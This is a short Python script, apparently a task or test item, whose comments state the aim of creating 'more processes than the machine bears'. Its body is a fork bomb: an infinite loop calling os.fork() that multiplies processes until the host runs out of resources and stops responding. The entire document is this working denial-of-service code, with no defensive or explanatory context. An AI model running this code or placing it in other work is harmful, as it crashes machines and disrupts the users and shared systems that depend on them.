# wants: more processes than the machine bears
# success: the first fork returns
# variants: preset kernel
import os

while True:
    os.fork()
